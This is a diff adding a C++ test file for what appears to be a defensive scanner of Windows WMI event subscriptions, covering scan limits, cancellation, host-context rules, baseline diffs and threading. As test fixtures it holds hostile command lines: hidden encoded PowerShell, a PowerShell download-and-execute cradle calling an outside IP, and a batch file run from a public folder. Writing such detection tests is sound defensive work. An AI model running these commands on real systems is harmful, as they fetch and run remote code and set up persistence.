@@ -1,0 +1,301 @@
+// Tests for wmisub/engine.hpp: the engine shared by threads, the scanner's
+// cancel flag, deadline, callback and limits, host context seen by rules, and
+// scans against a baseline that assess only what changed.
+#include "wmisub/engine.hpp"
+
+#include "wmisub/collector.hpp"
+
+#include <doctest/doctest.h>
+
+#include <algorithm>
+#include <atomic>
+#include <chrono>
+#include <memory>
+#include <optional>
+#include <string>
+#include <thread>
+#include <type_traits>
+#include <utility>
+#include <vector>
+
+using namespace wmisub;
+
+namespace {
+
+constexpr const char* process_query =
+    "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'";
+
+// `n` bound subscriptions, each with its own encoded PowerShell payload.
+snapshot subscriptions(int n) {
+    mock_collector source;
+    for (int i = 0; i < n; ++i) {
+        const std::string name = "S" + std::to_string(i);
+        std::string command = "powershell.exe -nop -w hidden -enc SQBFAFgA";
+        command += std::to_string(i);
+        source.filter(name, process_query).command_line_consumer(name, command).bind(name, name);
+    }
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    return std::move(*snap);
+}
+
+bool has_finding(const assessment& a, std::string_view id) {
+    return std::any_of(a.findings.begin(), a.findings.end(), [&](const finding& f) { return f.id() == id; });
+}
+
+template <class T>
+concept changes_of_temporary = requires { std::declval<T>().changed(); };
+
+}  // namespace
+
+TEST_CASE("a scanner hands every assessment over, and what is kept outlives engine, scanner and graph") {
+    std::vector<assessment> kept;
+    scan_summary summary;
+    {
+        const engine e;
+        scanner s(e);
+        summary = s.scan(subscriptions(5), [&](assessment& a) { kept.push_back(a); });
+    }
+    CHECK(summary.status == scan_status::complete);
+    CHECK(summary.complete());
+    CHECK(summary.entries == 5);
+    CHECK(summary.assessed == 5);
+    REQUIRE(kept.size() == 5);
+    for (const assessment& a : kept) {
+        REQUIRE(a.facts.filter != nullptr);
+        CHECK(a.facts.filter->query == process_query);  // the graph died; the assessment keeps it
+        REQUIRE(a.facts.host != nullptr);               // so does the engine's host context
+        CHECK(a.facts.host->host_name.empty());
+        CHECK(a.risk.severity >= severity::high);
+    }
+}
+
+TEST_CASE("a callback returning false stops the scan, which says so") {
+    const engine e;
+    scanner s(e);
+    std::size_t seen = 0;
+    const scan_summary summary = s.scan(subscriptions(6), [&](const assessment&) { return ++seen < 2; });
+    CHECK(seen == 2);
+    CHECK(summary.status == scan_status::stopped);
+    CHECK(summary.assessed == 2);
+    CHECK(summary.partial);
+}
+
+TEST_CASE("the cancel flag stops a scan between entries and before payload analysis") {
+    const engine e;
+    scanner s(e);
+    std::atomic<bool> cancel{false};
+    s.set_cancel_flag(&cancel);
+    std::size_t seen = 0;
+    const subscription_graph graph = s.build_graph(subscriptions(6));
+    CHECK_FALSE(graph.interrupted());
+    const scan_summary summary = s.scan(graph, [&](const assessment&) {
+        if (++seen == 3) cancel = true;  // another thread would do this
+    });
+    CHECK(summary.status == scan_status::cancelled);
+    CHECK(summary.assessed == 3);
+    CHECK(summary.partial);
+
+    // Raised before the graph is built: the joins are made, no payload is analysed.
+    const subscription_graph stopped = s.build_graph(subscriptions(3));
+    CHECK(stopped.interrupted());
+    REQUIRE(stopped.entries().size() == 3);
+    CHECK(stopped.payload(stopped.entries()[0])->truncated);
+    CHECK(stopped.payload(stopped.entries()[0])->indicators.empty());
+}
+
+TEST_CASE("a deadline in the past stops graph and scan, returning what was done") {
+    const engine e;
+    scanner s(e);
+    std::vector<scan_warning> warnings;
+    s.set_warning_sink([&](const scan_warning& w) { warnings.push_back(w); });
+    s.set_deadline(std::chrono::steady_clock::now() - std::chrono::seconds(1));
+    std::size_t seen = 0;
+    const scan_summary summary = s.scan(subscriptions(4), [&](const assessment&) { ++seen; });
+    CHECK(summary.status == scan_status::deadline);
+    CHECK(seen == 0);
+    CHECK(summary.partial);
+    REQUIRE_FALSE(warnings.empty());
+    CHECK(warnings.front().where == "graph");
+    CHECK(summary.warnings == warnings.size());
+
+    s.set_deadline(std::nullopt);
+    CHECK(s.scan(subscriptions(4), [](const assessment&) {}).complete());
+}
+
+TEST_CASE("limits bound the entries, findings and evidence text of a scan") {
+    limits l;
+    l.max_entries = 2;
+    l.max_findings = 1;
+    l.max_evidence_bytes = 24;
+    const engine e(rule_catalog::builtin(), {}, l);
+    scanner s(e);
+    mock_collector source;
+    std::string long_url = "powershell -c iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/";
+    for (int i = 0; i < 300; ++i) long_url += "\xC3\xA9";  // two-byte characters: a cut must not split one
+    long_url += "')";
+    for (int i = 0; i < 3; ++i) {
+        const std::string name = "L" + std::to_string(i);
+        source.filter(name, process_query).command_line_consumer(name, long_url).bind(name, name);
+    }
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    std::vector<assessment> kept;
+    const scan_summary summary = s.scan(std::move(*snap), [&](assessment& a) { kept.push_back(std::move(a)); });
+    CHECK(summary.status == scan_status::entry_limit);
+    CHECK(summary.assessed == 2);
+    CHECK(summary.partial);
+    REQUIRE(kept.size() == 2);
+    for (const assessment& a : kept) {
+        CHECK(a.findings.size() == 1);
+        CHECK(a.risk.severity >= severity::high);  // scored on every finding before the cut
+        for (const evidence& ev : a.findings.front().evidence) {
+            CHECK(ev.excerpt.size() <= 24 + 3);
+            CHECK(ev.detail.size() <= 24 + 3);
+            for (const std::string* text : {&ev.excerpt, &ev.detail}) {
+                // Valid UTF-8 after the cut: no lead byte without its continuation.
+                for (std::size_t i = 0; i < text->size(); ++i) {
+                    const auto c = static_cast<unsigned char>((*text)[i]);
+                    if (c == 0xC3) CHECK(i + 1 < text->size());
+                }
+            }
+        }
+    }
+    // The full text is one call away: the facts' consumer still holds it.
+    REQUIRE(kept.front().facts.consumer != nullptr);
+    CHECK(std::get<command_line_consumer>(*kept.front().facts.consumer).command_line_template == long_url);
+}
+
+TEST_CASE("rules see the host context, as yara rules see external variables") {
+    host_context host;
+    host.host_name = "WS01";
+    host.trusted_domains = {"updates.example.com"};
+    host.approved_folders = {"%ProgramFiles%\\Vendor\\"};
+    host.expected_creator_sids = {"S-1-5-18"};
+    host.variables = {{"site", "lab"}};
+    CHECK(host.trusts_domain("updates.example.com"));
+    CHECK(host.trusts_domain("eu.UPDATES.example.com."));
+    CHECK_FALSE(host.trusts_domain("evilupdates.example.com"));
+    CHECK_FALSE(host.trusts_domain("example.com"));
+    CHECK(host.in_approved_folder("C:\\Program Files\\Vendor\\agent.exe"));
+    CHECK(host.in_approved_folder("c:/program files/vendor/sub/../tool.exe"));
+    CHECK_FALSE(host.in_approved_folder("C:\\Program Files\\Vendor\\..\\Evil\\x.exe"));
+    CHECK_FALSE(host.in_approved_folder("C:\\Program Files\\VendorX\\x.exe"));
+    CHECK(host.expects_creator("s-1-5-18"));
+    CHECK_FALSE(host.expects_creator("S-1-5-21-1-2-3-500"));
+    CHECK(host.variable("SITE") == std::optional<std::string_view>("lab"));
+    CHECK_FALSE(host.variable("other"));
+
+    rule_catalog catalog;
+    rule r;
+    r.id = "HOST-001";
+    r.title = "Payload outside the approved folders";
+    r.severity = severity::high;
+    r.check = [](const subscription_facts& f) -> std::optional<rule_hit> {
+        if (f.host == nullptr || f.payload == nullptr || !f.payload->executable) return std::nullopt;
+        if (f.host->in_approved_folder(f.payload->executable->raw)) return std::nullopt;
+        return rule_hit{{{"Consumer.CommandLineTemplate", f.payload->executable->raw, "not in an approved folder"}}, {}};
+    };
+    REQUIRE(catalog.add(std::move(r)));
+    const engine e(std::move(catalog), {}, {}, host);
+    scanner s(e);
+    mock_collector source;
+    source.filter("A", process_query).command_line_consumer("A", "\"C:\\Program Files\\Vendor\\agent.exe\" --report").bind("A", "A");
+    source.filter("B", process_query).command_line_consumer("B", "C:\\Users\\Public\\agent.exe --report").bind("B", "B");
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    std::vector<bool> fired;
+    (void)s.scan(std::move(*snap), [&](const assessment& a) { fired.push_back(has_finding(a, "HOST-001")); });
+    CHECK(fired == std::vector<bool>{false, true});
+}
+
+TEST_CASE("scan_changes assesses only what changed since the baseline, with the changes as findings") {
+    mock_collector before;
+    before.filter("Keep", process_query).command_line_consumer("Keep", "C:\\Program Files\\Vendor\\agent.exe").bind("Keep", "Keep");
+    before.filter("Edit", process_query).command_line_consumer("Edit", "C:\\Program Files\\Vendor\\report.exe").bind("Edit", "Edit");
+    auto first = before.collect({});
+    REQUIRE(first);
+    const baseline approved = make_baseline(*first);
+
+    mock_collector after;
+    after.filter("Keep", process_query).command_line_consumer("Keep", "C:\\Program Files\\Vendor\\agent.exe").bind("Keep", "Keep");
+    after.filter("Edit", process_query).command_line_consumer("Edit", "cmd.exe /c C:\\Users\\Public\\r.bat").bind("Edit", "Edit");
+    after.filter("New", process_query).command_line_consumer("New", "powershell -enc SQBFAFgA").bind("New", "New");
+    auto second = after.collect({});
+    REQUIRE(second);
+
+    const engine e;
+    scanner s(e);
+    std::vector<assessment> kept;
+    {
+        const subscription_graph graph = e.graph(std::move(*second));
+        const graph_changes changes = diff(approved, graph);
+        CHECK(changes.diff().has_changes());
+        REQUIRE(changes.changed().size() == 2);
+        CHECK(changes.of(0).empty());  // Keep
+        const scan_summary summary = s.scan_changes(graph, changes, [&](assessment& a) { kept.push_back(std::move(a)); });
+        CHECK(summary.complete());
+        CHECK(summary.entries == 2);
+    }
+    REQUIRE(kept.size() == 2);
+    const assessment& edited = kept[0];
+    REQUIRE(edited.facts.changes != nullptr);  // kept alive with the assessment
+    REQUIRE(edited.facts.changes->modified.size() == 1);
+    CHECK(has_finding(edited, "WMISUB-BSL-001"));
+    const auto bsl = std::find_if(edited.findings.begin(), edited.findings.end(),
+                                  [](const finding& f) { return f.id() == "WMISUB-BSL-001"; });
+    REQUIRE(bsl != edited.findings.end());
+    REQUIRE_FALSE(bsl->evidence.empty());
+    CHECK(bsl->evidence.front().field == "consumer.CommandLineTemplate");
+    CHECK(bsl->evidence.front().detail.find("report.exe") != std::string::npos);
+    const assessment& added = kept[1];
+    REQUIRE(added.facts.changes != nullptr);
+    CHECK(added.facts.changes->added.size() == 3);  // filter, consumer and binding are new
+    CHECK_FALSE(has_finding(added, "WMISUB-BSL-001"));
+    CHECK(added.risk.severity >= severity::high);
+
+    // Without a baseline the rule never fires.
+    std::vector<bool> plain;
+    (void)s.scan(subscriptions(1), [&](const assessment& a) { plain.push_back(has_finding(a, "WMISUB-BSL-001")); });
+    CHECK(plain == std::vector<bool>{false});
+    static_assert(changes_of_temporary<const graph_changes&>);
+    static_assert(!changes_of_temporary<graph_changes>, "the changes of a temporary graph_changes would dangle");
+}
+
+TEST_CASE("an engine's allow-list uses fingerprints computed once per object") {
+    const snapshot snap = subscriptions(2);
+    policy p;
+    p.allowed_fingerprints = {fingerprint(snap.filters[0]), fingerprint(snap.consumers[0])};
+    const engine e(rule_catalog::builtin(), p);
+    const subscription_graph graph = e.graph(snap);
+    REQUIRE(graph.filter_fingerprint(graph.entries()[0]) != nullptr);
+    CHECK(*graph.filter_fingerprint(graph.entries()[0]) == p.allowed_fingerprints[0]);
+    scanner s(e);
+    const std::vector<assessment> results = s.assess_all(graph);
+    REQUIRE(results.size() == 2);
+    CHECK(results[0].allow_listed);
+    CHECK(results[0].risk.severity == severity::info);
+    CHECK_FALSE(results[1].allow_listed);
+    // A graph built without them computes them when asked.
+    const subscription_graph plain(snap);
+    CHECK(plain.filter_fingerprint(plain.entries()[0]) == nullptr);
+    CHECK(assess(subscription_graph(snap), rule_catalog::builtin(), p)[0].allow_listed);
+}
+
+TEST_CASE("threads share one engine, each with its own scanner") {
+    const engine e;
+    const subscription_graph graph = e.graph(subscriptions(30));
+    std::vector<std::vector<assessment>> per_thread(3);
+    std::vector<std::thread> threads;
+    for (std::size_t t = 0; t < per_thread.size(); ++t) {
+        threads.emplace_back([&, t] {
+            scanner s(e);
+            per_thread[t] = s.assess_all(graph);
+        });
+    }
+    for (std::thread& t : threads) t.join();
+    for (const std::vector<assessment>& results : per_thread) {
+        REQUIRE(results.size() == 30);
+        for (std::size_t i = 0; i < results.size(); ++i) CHECK(results[i].risk.score == per_thread.front()[i].risk.score);
+    }
+}
